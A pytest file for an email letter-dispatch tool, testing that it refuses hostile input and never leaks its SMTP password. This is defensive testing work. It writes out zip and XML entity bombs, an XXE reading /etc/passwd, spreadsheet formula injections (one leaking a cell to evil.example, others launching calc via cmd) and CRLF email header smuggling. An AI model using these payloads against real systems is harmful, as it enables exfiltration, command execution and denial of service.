def lie_about_size(data: bytes, member: str, size: int) -> bytes:
    """The zip with ``member``'s uncompressed size rewritten to ``size`` in both of its headers."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        struct.pack_into("<I", out, z.getinfo(member).header_offset + 22, size)  # local file header
    name = member.encode()
    pos = out.find(b"PK\x01\x02")
    while pos >= 0:  # central directory entries
        (length,) = struct.unpack_from("<H", out, pos + 28)
        if out[pos + 46:pos + 46 + length] == name:
            struct.pack_into("<I", out, pos + 24, size)
        pos = out.find(b"PK\x01\x02", pos + 4)
    return bytes(out)


def _import(project: Project, monkeypatch: pytest.MonkeyPatch, kind: str, path: Path, db_url: str | None = None) -> str:
    """``congvan roster|responses import`` refusing ``path``: its one Error line; nothing was loaded."""
    env = {"CONGVAN_DATABASE_URL": db_url} if db_url else {}
    line = one_error(cli(project, monkeypatch, kind, "import", CAMPAIGN, str(path), **env))
    assert rows_in(project, Staff, Response, Import, url=db_url) == 0
    return line


def _peak_mb(read: Callable[[], object]) -> float:
    tracemalloc.start()
    try:
        with pytest.raises(SourceDataError):
            read()
        return tracemalloc.get_traced_memory()[1] / 2**20
    finally:
        tracemalloc.stop()


def test_bad_xlsx_zip_bomb(project: Project, monkeypatch: pytest.MonkeyPatch, zip_bomb: Path) -> None:
    started = time.monotonic()
    line = _import(project, monkeypatch, "roster", zip_bomb)
    assert line == f"Error: {zip_bomb.name}: unpacks to {BOMB_MB} MB, over the 400 MB limit"
    assert time.monotonic() - started < 5  # refused from the zip's directory, before inflating anything
    lc = load_campaign(project.config, CAMPAIGN)
    assert _peak_mb(lambda: roster.read_roster(lc, zip_bomb)) < 20


def test_bad_xlsx_zip_bomb_with_lying_sizes(project: Project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                            zip_bomb: Path) -> None:
    """The same bomb claiming its sheet is 64 KB: zipfile stops at the stated size, the CRC does not match."""
    liar = tmp_path / "export.xlsx"
    liar.write_bytes(lie_about_size(zip_bomb.read_bytes(), "xl/worksheets/sheet1.xml", 2**16))
    line = _import(project, monkeypatch, "responses", liar)
    assert line == "Error: export.xlsx: not a readable .xlsx workbook (Bad CRC-32 for file 'xl/worksheets/sheet1.xml')"
    lc = load_campaign(project.config, CAMPAIGN)
    assert _peak_mb(lambda: roster.read_responses(lc, liar)) < 20


ENTITY_BOMBS = {
    "billion laughs in the sheet": lambda p: write_xlsx(p, sheet_xml(
        HEADER_ROW + '<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>', LAUGHS)),
    "billion laughs in sharedStrings": lambda p: write_xlsx(
        p, sheet_xml(HEADER_ROW + '<row r="2"><c r="A2" t="s"><v>0</v></c></row>'),
        f'<?xml version="1.0" encoding="UTF-8"?>{LAUGHS}<sst xmlns="{NS}" count="1" uniqueCount="1">'
        "<si><t>&lol9;</t></si></sst>"),
    "external entity (file:///etc/passwd)": lambda p: write_xlsx(p, sheet_xml(
        HEADER_ROW + '<row r="2"><c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c></row>', EXTERNAL)),
}


@pytest.mark.parametrize("kind", ["roster", "responses"])
@pytest.mark.parametrize("bomb", ENTITY_BOMBS)
def test_bad_xlsx_entity_bomb(project: Project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, bomb: str,
                              kind: str) -> None:
    path = ENTITY_BOMBS[bomb](tmp_path / "bomb.xlsx")
    started = time.monotonic()
    line = _import(project, monkeypatch, kind, path)
    assert line == ("Error: bomb.xlsx: refused: its XML declares entities, which Excel never writes (a possible XML "
                    "bomb); open it in Excel and save it again as .xlsx")
    assert time.monotonic() - started < 5
    assert "root:" not in line


@pytest.mark.parametrize("part", ["[Content_Types].xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels",
                                  "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"])
def test_bad_xlsx_doctype_in_any_part_is_refused_unread(tmp_path: Path, part: str) -> None:
    """What the entity-bomb row relies on: a DOCTYPE in any part the reader parses is refused by expat before the
    element parser sees the part, even a harmless one, even in UTF-16 (a byte search would miss it)."""
    path = write_xlsx(tmp_path / "roster.xlsx", sheet_xml(HEADER_ROW))
    with zipfile.ZipFile(path) as z:
        parts = {name: z.read(name) for name in z.namelist()}
    text = parts[part].decode().replace('<?xml version="1.0" encoding="UTF-8"?>', "")
    parts[part] = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x []>' + text).encode("utf-16")
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    from congvan.xlsx_reader import XlsxBook

    with (pytest.raises(SourceDataError, match=r"^roster\.xlsx: refused: its XML declares entities"),
          XlsxBook(path.read_bytes(), "roster.xlsx") as book):
        list(book.rows(book.sheets[0]))


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_bad_file_over_50_mb(project: Project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"huge{suffix}"
    with path.open("wb") as f:
        f.truncate(50 * 2**20 + 1)  # sparse: 50 MB and a byte, written in no time
    line = _import(project, monkeypatch, "roster", path)
    assert line == f"Error: {path}: larger than the 50 MB limit for a roster or export"


def test_bad_csv_with_nul_bytes(project: Project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                db_url: str) -> None:
    """On SQLite and PostgreSQL (whose text columns cannot hold NUL at all)."""
    path = tmp_path / "roster.csv"
    path.write_bytes(b"staff_id,name,position,unit\nA-1,Nguyen Van A,CV,SNV\nA-2,Tran\x00\x00,CV,SNV\n")
    line = _import(project, monkeypatch, "roster", path, db_url)
    assert line == ("Error: roster.csv, line 3: contains a NUL byte, which a text file never holds; in Excel save "
                    "it as 'CSV UTF-8 (Comma delimited)'")


def test_bad_csv_that_is_utf16_without_its_mark(project: Project, monkeypatch: pytest.MonkeyPatch,
                                                tmp_path: Path) -> None:
    """All-ASCII UTF-16 without a BOM decodes as UTF-8 with a NUL after every letter."""
    path = tmp_path / "export.csv"
    path.write_bytes("staff_id,completed_at\nA-1,2023-02-20 08:00\n".encode("utf-16-le"))
    line = _import(project, monkeypatch, "responses", path)
    assert line.startswith("Error: export.csv, line 1: contains a NUL byte")


def test_bad_csv_not_utf8(project: Project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    path = tmp_path / "roster.csv"
    path.write_bytes(b"staff_id,name,position,unit\nA-1,Nguy\xea\xde\xf1 V\xe3n A,CV,SNV\n")  # a legacy code page
    line = _import(project, monkeypatch, "roster", path)
    assert re.fullmatch(r"Error: roster\.csv: not UTF-8 text \(byte \d+\); in Excel save it as 'CSV UTF-8 "
                        r"\(Comma delimited\)'", line), line


def test_bad_csv_field_over_the_csv_limit(project: Project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    path = tmp_path / "roster.csv"
    path.write_text("staff_id,name,position,unit\nA-1,\"" + "x" * 200_000 + "\",CV,SNV\n", encoding="utf-8")
    line = _import(project, monkeypatch, "roster", path)
    assert line == "Error: roster.csv, row 2: not readable as CSV (field larger than field limit (131072))"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_bad_too_many_rows(project: Project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, fmt: str) -> None:
    """100 001 rows of a CSV; or an .xlsx of a few hundred bytes whose one data row is at row 1 048 576."""
    if fmt == "csv":
        path = tmp_path / "roster.csv"
        path.write_text("staff_id,name,position,unit\n" + "".join(f"S-{i},Tên {i},CV,SNV\n" for i in range(100_001)),
                        encoding="utf-8")
        shown = "roster.csv"
    else:
        path = write_xlsx(tmp_path / "roster.xlsx", sheet_xml(
            HEADER_ROW + '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>S-1</t></is></c></row>'))
        shown = "roster.xlsx, sheet 'Danh sách'"
    started = time.monotonic()
    line = _import(project, monkeypatch, "roster", path)
    assert line == f"Error: {shown}: more than 100000 data rows; split the file"
    assert time.monotonic() - started < 15


def test_a_roster_of_exactly_the_cap_is_read(tmp_path: Path) -> None:
    """The cap counts data rows: a header and title lines above it do not push 100,000 officials over."""
    lc = load_campaign(ROOT / "config", "par-index-2022")
    path = tmp_path / "roster.csv"
    path.write_text("Danh sách cán bộ\n\nstaff_id,name,position,unit\n"
                    + "".join(f"S-{i},Tên {i},CV,SNV\n" for i in range(roster.MAX_ROWS)), encoding="utf-8")

    parsed = roster.read_roster(lc, path)

    assert (parsed.rows, len(parsed.staff), parsed.errors) == (roster.MAX_ROWS, roster.MAX_ROWS, ())
    with path.open("a", encoding="utf-8") as more:
        more.write("S-extra,Tên,CV,SNV\n")
    with pytest.raises(SourceDataError, match="more than 100000 data rows"):
        roster.read_roster(lc, path)


@pytest.mark.parametrize(("name", "content", "expected"), [
    ("roster.xlsx", b"Ma can bo,Ho va ten\n",
     "roster.xlsx: not an .xlsx workbook (save it as an Excel Workbook .xlsx)"),
    ("roster.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "roster.xls: not a .xlsx or .csv file (save it as an Excel "
                                                       "Workbook .xlsx)"),
    ("roster.xlsx", b"PK\x03\x04" + b"\x00" * 64, "roster.xlsx: not an .xlsx workbook"),
])
def test_bad_not_a_workbook(project: Project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, name: str,
                            content: bytes, expected: str) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    line = _import(project, monkeypatch, "roster", path)
    assert expected in line, line


@pytest.mark.parametrize("kind", ["symlink to /dev/zero", "named pipe"])
def test_bad_not_a_regular_file(project: Project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, kind: str) -> None:
    """A .csv that is a device or a pipe: reading it would never end (or never start)."""
    path = tmp_path / "roster.csv"
    if kind == "named pipe":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")
    line = _import(project, monkeypatch, "roster", path)
    assert line == f"Error: {path}: not a regular file"


def test_bad_line_break_in_a_sheet_name(project: Project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A workbook whose sheet is named "Danh<LF>sách" (Excel forbids it; the XML allows it): the row's error
    is still one line."""
    path = tmp_path / "roster.xlsx"
    write_xlsx(path, sheet_xml(HEADER_ROW + '<row r="2">' + "".join(
        f'<c r="{c}2" t="inlineStr"><is><t>{t}</t></is></c>' for c, t in zip("ABCD", ("A-1", "Tên", "CV", "KHONG-CO"),
                                                                             strict=True)) + "</row>"))
    workbook = path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(workbook)) as zin, zipfile.ZipFile(path, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            zout.writestr(info, data.replace(b'name="Danh s', b'name="Danh&#10;\xe2\x80\xa8s'))
    line = _import(project, monkeypatch, "roster", path)
    assert line == ("Error: roster.xlsx, sheet 'Danh sách', row 2: unknown unit 'KHONG-CO' (a code or name from "
                    "units.yaml)")


def test_bad_line_break_in_an_export_file_name(project: Project, monkeypatch: pytest.MonkeyPatch,
                                              tmp_path: Path) -> None:
    """Exports arrive with whatever name the survey site gives them: the name is shown escaped, on one line."""
    path = tmp_path / "ket qua\nBcc.csv"
    path.write_text("staff_id,completed_at\nA-1,hôm qua\n", encoding="utf-8")
    line = _import(project, monkeypatch, "responses", path)
    assert line == ("Error: 'ket qua\\nBcc.csv', row 2: unreadable time 'hôm qua' (expected dd/mm/yyyy HH:MM:SS, "
                    "dd/mm/yyyy or yyyy-mm-dd HH:MM)")


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
            "-2+3+cmd|' /C calc'!A0", "=1+1"]


def test_bad_formula_in_a_name_stays_text_in_the_report(project: Project, monkeypatch: pytest.MonkeyPatch,
                                                        tmp_path: Path) -> None:
    """Names from a roster and from units.yaml land in the report's .xlsx: as text, never as formulas."""
    edit(project, "units.yaml", lambda d: _unit("KPAC", "name")(d, FORMULAS[-1]))
    roster_csv = tmp_path / "roster.csv"
    with roster_csv.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([("staff_id", "name", "position", "unit"),
                                 *[(f"K-{i}", name, "Chuyên viên", "KPAC") for i, name in enumerate(FORMULAS[:-1])],
                                 ("K-9", "Võ Văn Em", "=2*3", "KPAC")])
    loaded = cli(project, monkeypatch, "roster", "import", CAMPAIGN, str(roster_csv))
    assert loaded.returncode == 0, loaded.stderr
    result = cli(project, monkeypatch, "report", CAMPAIGN, "--as-of", "2023-02-27")
    assert result.returncode == 0, result.stderr
    xlsx = Path(result.stdout.splitlines()[1])
    assert xlsx.suffix == ".xlsx" and xlsx.resolve().is_relative_to(project.out.resolve())
    with zipfile.ZipFile(xlsx) as z:
        sheets = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets and "<f " not in sheets
    workbook = openpyxl.load_workbook(xlsx)
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    written = {c.value: c.data_type for c in cells}
    for text in [*FORMULAS, "=2*3"]:
        assert written.get(text) == "s", (text, written.get(text))


# --- secrets: the SMTP password appears nowhere -----------------------------------------------------------

SMALL_ROSTER = ("staff_id,name,position,unit,email\nK-01,Phạm Thị Dung,Phó Chủ tịch UBND,KPAC,\n"
                "K-02,Võ Văn Em,Chuyên viên,KPAC,\n")


def _leaks(data: bytes, where: str) -> list[str]:
    """Where the password shows in ``data``: as bytes, in UTF-16, base64 (as AUTH PLAIN/LOGIN would send it),
    inside a zip's members (.docx/.xlsx), a PDF's text or a mail's decoded parts (its attachments)."""
    return [f"{where}{inside}" for inside in _findings(data, where.endswith(".eml"))]


@functools.cache
def _findings(data: bytes, eml: bool) -> tuple[str, ...]:
    """``_leaks`` of one blob, once per distinct blob: every message of a dispatch carries the same PDF."""
    needles = [SECRET.encode(), SECRET.encode("utf-16-le"), base64.b64encode(SECRET.encode()),
               base64.b64encode(f"\0{SMTP_USER}\0{SECRET}".encode())]
    found = [""] if any(n in data for n in needles) else []
    if data[:4] == b"PK\x03\x04":
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            for member in z.namelist():
                found += [f"!{member}{inside}" for inside in _findings(z.read(member), False)]
    elif data[:5] == b"%PDF-":
        text = subprocess.run(["pdftotext", "-", "-"], input=data, capture_output=True, check=True).stdout
        found += [f" (text){inside}" for inside in _findings(text, False)] if text.strip() else [": no text in PDF"]
    elif eml:
        for part in email.message_from_bytes(data, policy=email.policy.default).walk():
            payload = part.get_payload(decode=True)
            if isinstance(payload, bytes):
                found += [f"#{part.get_content_type()}{inside}" for inside in _findings(payload, False)]
    return tuple(found)


def test_the_password_search_finds_it_where_it_would_hide() -> None:
    """The search below is only worth its silence if it finds the password where a leak would put it."""
    docx = io.BytesIO()
    with zipfile.ZipFile(docx, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("word/document.xml", f"<w:t>{SECRET}</w:t>")
    mail = email.message.EmailMessage()
    mail.set_content("body")
    mail.add_attachment(docx.getvalue(), maintype="application", subtype="octet-stream", filename="x.docx")
    assert _leaks(docx.getvalue(), "x.docx") == ["x.docx!word/document.xml"]
    assert _leaks(mail.as_bytes(), "m.eml") == ["m.eml#application/octet-stream!word/document.xml"]
    auth = f"AUTH PLAIN {base64.b64encode(f'{chr(0)}{SMTP_USER}{chr(0)}{SECRET}'.encode()).decode()}"
    assert _leaks(auth.encode(), "log") == ["log"]
    assert _leaks(f"user {SMTP_USER}".encode("utf-16-le"), "x") == []


PAGE = 200  # the Prefect API's largest page


async def _prefect_records() -> list[tuple[str, str]]:
    """Everything the Prefect API keeps about the runs: flow runs (with parameters), task runs, logs, artifacts."""
    from prefect.client.orchestration import get_client

    async def every(read: Any) -> list[Any]:  # page through all of it: the API is shared by the whole session
        found: list[Any] = []
        while page := await read(limit=PAGE, offset=len(found)):
            found += page
        return found

    async with get_client() as client:
        flow_runs = await every(client.read_flow_runs)
        task_runs = await every(client.read_task_runs)
        logs = await every(client.read_logs)
        artifacts = await every(client.read_artifacts)
    return ([("flow run", r.model_dump_json()) for r in flow_runs]
            + [("task run", r.model_dump_json()) for r in task_runs]
            + [("log", r.model_dump_json()) for r in logs] + [("artifact", r.model_dump_json()) for r in artifacts])


def _database_dump(url: str) -> str:
    """Every row of every table of the database at ``url``, as text."""
    engine = sa.create_engine(url, poolclass=sa.NullPool)
    try:
        with engine.connect() as conn:
            tables = sa.inspect(conn).get_table_names()
            return "\n".join(repr(row) for table in tables for row in conn.execute(sa.text(f'SELECT * FROM "{table}"')))
    finally:
        engine.dispose()


def test_bad_smtp_password_appears_nowhere(project: Project, tmp_path: Path, prefect_api: str) -> None:
    """A dispatch and an escalation day (a numbered letter with its PDF, the report with its .xlsx) through the
    command line, with STARTTLS and AUTH and Prefect logging at DEBUG; then every output is searched."""
    (project.config / "rosters" / "small.csv").write_text(SMALL_ROSTER, encoding="utf-8")
    edit(project, CAMPAIGN_FILE, lambda c: (c["follow_up"].update(roster="rosters/small.csv"),
                                             c["follow_up"].pop("responses")))
    context, ca_file = self_signed_tls(tmp_path)
    options = CatcherOptions(starttls_context=context, require_starttls=True, auth_user=SMTP_USER,
                             auth_password=SECRET)
    prefect_home = tmp_path / "prefect-home"
    outputs: list[subprocess.CompletedProcess[str]] = []
    with MailCatcher(project.out / "mailbox", options=options) as catcher:
        env = {"CONGVAN_SMTP_PORT": str(catcher.port), "CONGVAN_SMTP_SECURITY": "starttls",
               "CONGVAN_SMTP_USER": SMTP_USER, "CONGVAN_SMTP_PASSWORD": SECRET, "CONGVAN_SMTP_CA_FILE": str(ca_file),
               "PREFECT_API_URL": prefect_api, "PREFECT_HOME": str(prefect_home), "PREFECT_LOGGING_LEVEL": "DEBUG",
               "CONGVAN_SMTP_BACKOFF": "0.1"}
        for args in (("dispatch", CAMPAIGN, "--as-of", "2023-02-10"), ("roster", "import", CAMPAIGN),
                     ("escalate", CAMPAIGN, "--as-of", "2023-03-03", "--json"),
                     ("status", CAMPAIGN, "--as-of", "2023-03-03")):
            outputs.append(project.run(*args, timeout=300, **env))
            assert outputs[-1].returncode == 0, outputs[-1].stderr[-3000:]
        received = catcher.stored()
    steps = {(a["unit"], a["step"], a["status"]) for a in json.loads(outputs[2].stdout)["actions"]}
    assert steps == {("KPAC", "giai-trinh", "sent"), (None, "bao-cao", "sent")}
    assert len(received) == 38 + 2  # the dispatch (36 units, 2 copies), the letter, the report
    assert "| DEBUG   |" in outputs[0].stderr  # Prefect did log at DEBUG

    leaks: list[str] = []
    for i, result in enumerate(outputs):
        leaks += _leaks(result.stdout.encode(), f"stdout of run {i}") + _leaks(result.stderr.encode(), f"stderr {i}")
    searched = files_under(tmp_path)
    assert {p.suffix for p in searched} >= {".docx", ".pdf", ".xlsx", ".png", ".eml", ".db"}
    # PREFECT_HOME (under tmp_path) is searched too, whatever Prefect left there (with results not persisted,
    # nothing so far).
    for path in searched:
        leaks += _leaks(path.read_bytes(), str(path.relative_to(tmp_path)))

    engine = make_engine(f"sqlite:///{project.out / 'congvan.db'}")
    with engine.connect() as conn:
        tables = sa.inspect(conn).get_table_names()
        dump = "\n".join(repr(row) for table in tables for row in conn.execute(sa.text(f'SELECT * FROM "{table}"')))
    engine.dispose()
    assert {"documents", "deliveries", "staff", "imports"} <= set(tables) and "giai-trinh" in dump
    leaks += _leaks(dump.encode(), "database dump")

    records = asyncio.run(_prefect_records())
    kinds = {kind for kind, _ in records}
    assert kinds == {"flow run", "task run", "log", "artifact"}
    assert any('"level":10' in text for kind, text in records if kind == "log")  # DEBUG lines reached the API
    leaks += [f"Prefect {kind}" for kind, text in records if _leaks(text.encode(), kind)]

    # What the server itself keeps: every row of its database (SQLite or PostgreSQL), then its folder (log, home).
    server_dump = _database_dump(os.environ[SHARED_API_DATABASE])
    run_names = {name for result in outputs for name in re.findall(r"flow run '([\w-]+)'", result.stderr)}
    assert len(run_names) == 2 and all(f"'{name}'" in server_dump for name in run_names)  # dispatch, escalate
    leaks += _leaks(server_dump.encode(), "Prefect server database")
    server_files = files_under(Path(os.environ[SHARED_API_LOG]).parent)
    assert any(p.name == "prefect-server.log" for p in server_files)
    for path in server_files:
        leaks += _leaks(path.read_bytes(), f"Prefect server {path.name}")
    assert leaks == []


def test_bad_wrong_smtp_password_is_not_echoed(project: Project, tmp_path: Path, prefect_api: str) -> None:
    context, ca_file = self_signed_tls(tmp_path)
    options = CatcherOptions(starttls_context=context, auth_user=SMTP_USER, auth_password="the-right-one")
    with MailCatcher(tmp_path / "mailbox", options=options) as catcher:
        result = project.run("dispatch", CAMPAIGN, "--as-of", "2023-02-10", CONGVAN_SMTP_PORT=str(catcher.port),
                             CONGVAN_SMTP_SECURITY="starttls", CONGVAN_SMTP_USER=SMTP_USER,
                             CONGVAN_SMTP_PASSWORD=SECRET, CONGVAN_SMTP_CA_FILE=str(ca_file),
                             PREFECT_API_URL=prefect_api, PREFECT_HOME=str(tmp_path / "prefect-home"))
        assert catcher.stored() == []
    line = one_error(result)
    assert re.fullmatch(r"Error: the mail server 127\.0\.0\.1:\d+ \(starttls\) refused the login of 'vanthu': "
                        r"535 5\.7\.8 Authentication credentials invalid", line), line
    assert _leaks((result.stdout + result.stderr).encode(), "output") == []
    assert rows_in(project, Document, Delivery) == 0


def test_bad_smtp_password_over_an_unencrypted_link(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    line = one_error(cli(project, monkeypatch, "dispatch", CAMPAIGN, CONGVAN_SMTP_USER=SMTP_USER,
                         CONGVAN_SMTP_PASSWORD=SECRET, CONGVAN_SMTP_PORT="1"))
    assert line == ("Error: refusing to send the SMTP password over an unencrypted link to 127.0.0.1:1 (none): "
                    "set CONGVAN_SMTP_SECURITY=starttls or ssl")


def test_bad_database_password_is_masked(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    url = f"postgresql+psycopg://congvan:{SECRET}@127.0.0.1:1/congvan"
    line = one_error(cli(project, monkeypatch, "status", CAMPAIGN, CONGVAN_DATABASE_URL=url))
    assert line.startswith("Error: cannot connect to the database postgresql+psycopg://congvan:***@127.0.0.1:1/congvan")
    assert SECRET not in line


# --- the table in docs/bad-input.md and the tests keep in step ---------------------------------------------


def _documented() -> list[str]:
    rows = [line for line in DOCS.read_text(encoding="utf-8").splitlines() if line.startswith("| ")]
    header, *body = rows
    assert [c.strip() for c in header.strip("|").split("|")] == ["input", "where", "what the user sees", "test"]
    names = []
    for row in body:
        if set(row.replace("|", "").strip()) <= {"-", " "}:
            continue
        found = re.findall(r"`(test_bad_\w+)`", row.rstrip().rstrip("|").rpartition("|")[2])
        assert len(found) == 1, row
        names.append(found[0])
    return names


@pytest.mark.parametrize("value", ["vanthu@daklak.example\r\nBcc: b@y.example", "a@daklak.example, b@y.example",
                                   "vanthu@daklak.example\u2028Bcc: b@y.example"])
def test_bad_smtp_from_smuggles_a_header(project: Project, monkeypatch: pytest.MonkeyPatch, value: str) -> None:
    line = one_error(cli(project, monkeypatch, "dispatch", CAMPAIGN, CONGVAN_SMTP_FROM=value))
    assert line.startswith("Error: CONGVAN_SMTP_FROM: ")
    assert not (project.out / "congvan.db").exists()  # refused before the database was touched


@pytest.mark.parametrize("expression", ["{{ 1/0 }}", "{{ range(10**9)|list|length }}", "{{ '%d' % 'x' }}"])
def test_bad_docx_template_expression_fails(project: Project, monkeypatch: pytest.MonkeyPatch,
                                            expression: str) -> None:
    _docx_with(project, expression)
    line = one_error(cli(project, monkeypatch, "validate", CAMPAIGN))
    assert "templates/cong_van.docx: word/document.xml: " in line
    assert "Error: config/campaigns/par-index-2022.yaml: template: " in line


def test_docs_table_and_tests_are_in_step() -> None:
    documented = _documented()
    tests = sorted(name for name in globals() if name.startswith("test_bad_"))
    assert sorted(set(documented)) == tests
    assert len(documented) == len(set(documented))  # one row per test



# --- delivery reports are untrusted mail (congvan bounces) ----------------------------------------------


def test_bad_delivery_reports_change_no_row_they_do_not_name(tmp_path: Path) -> None:
    from test_bounces import A_TO, B_TO, _rows, _sent, postfix_dsn, read_receipt

    from congvan.store import init_db

    project = Project(tmp_path)
    db_url = f"sqlite:///{tmp_path / 'congvan.db'}"
    engine = make_engine(db_url)
    init_db(engine)
    ids = _sent(engine)
    files = {
        "real.eml": postfix_dsn(ids[A_TO], A_TO),
        "stranger.eml": postfix_dsn("<cv.00000000000000000000000000000000@daklak.example>", B_TO),
        "wrong-recipient.eml": postfix_dsn(ids[B_TO], "someone.else@daklak.example"),
        "forged-delivered.eml": postfix_dsn(ids[A_TO], A_TO, action="delivered", status="2.0.0"),
        "forged-receipt.eml": read_receipt(ids[A_TO], A_TO),
        "html-only.eml": b"From: MAILER-DAEMON@x\r\nContent-Type: text/html\r\n\r\n<p>550 5.1.1</p>\r\n",
        "bomb.eml": b"".join(b"Content-Type: message/rfc822\r\n\r\n" for _ in range(500)) + b"\r\nboom\r\n",
        "garbage.eml": bytes(range(256)) * 8,
    }
    paths = []
    for name, raw in files.items():
        (tmp_path / name).write_bytes(raw)
        paths.append(str(tmp_path / name))
    with open(tmp_path / "huge.eml", "wb") as fh:
        fh.truncate(50 * 1024 * 1024)
    result = project.run("bounces", "import", "par-index-2022", *paths, str(tmp_path / "huge.eml"),
                         CONGVAN_DATABASE_URL=db_url)
    assert result.returncode == 0 and "Traceback" not in result.stderr
    assert result.stdout.splitlines() == [f'STP {A_TO}: bounced 5.1.1 (X-Postfix; unknown user: "{A_TO}")']
    skipped = {line.split(": ", 2)[1].rsplit("/", 1)[-1]: line.split(": ", 2)[2]
               for line in result.stderr.splitlines() if line.startswith("Skipped: ")}
    assert skipped == {
        "stranger.eml": "<cv.00000000000000000000000000000000@daklak.example> is not a message campaign "
                        "par-index-2022 sent",
        "wrong-recipient.eml": f"someone.else@daklak.example is not an address {ids[B_TO]} was sent to",
        "forged-delivered.eml": f"a 'delivered' report for {A_TO} is not acted on (the row stays bounced)",
        "forged-receipt.eml": f"a displayed report for {A_TO}, whose letter is bounced: not applied",
        "html-only.eml": "HTML only, no delivery-status part and no plain text: not read as a report",
        "bomb.eml": "more than 200 MIME parts: not read",
        "garbage.eml": "not a delivery report or read receipt",
        "huge.eml": "50 MB is larger than any delivery report (10 MB at most): not read",
    }
    assert _rows(engine)[A_TO][0] == "bounced" and _rows(engine)[B_TO][0] == "sent"
    engine.dispose()


def test_bad_reply_mailbox_unreachable_or_unset(tmp_path: Path) -> None:
    import socket

    project = Project(tmp_path)
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    secret = "imap-pass-4d1e"
    result = project.run("bounces", "sync", "par-index-2022", CONGVAN_IMAP_HOST="127.0.0.1",
                         CONGVAN_IMAP_PORT=str(port), CONGVAN_IMAP_SECURITY="none", CONGVAN_IMAP_USER="vanthu",
                         CONGVAN_IMAP_PASSWORD=secret)
    assert result.returncode == 2
    assert error_lines(result) == [
        f"Error: cannot reach the mailbox server 127.0.0.1:{port} (none): Connection refused"]
    assert secret not in result.stdout + result.stderr
    unset = project.run("bounces", "sync", "par-index-2022")
    assert unset.returncode == 2
    assert error_lines(unset) == ["Error: CONGVAN_IMAP_HOST is not set: there is no reply mailbox to read "
                                  "(congvan bounces import reads saved reports instead)"]
    remote = project.run("bounces", "sync", "par-index-2022", CONGVAN_IMAP_HOST="imap.daklak.example",
                         CONGVAN_IMAP_SECURITY="none", CONGVAN_IMAP_USER="vanthu", CONGVAN_IMAP_PASSWORD=secret)
    assert error_lines(remote) == ["Error: CONGVAN_IMAP_SECURITY=none is for a server on this machine, not "
                                   "imap.daklak.example: use ssl or starttls"]
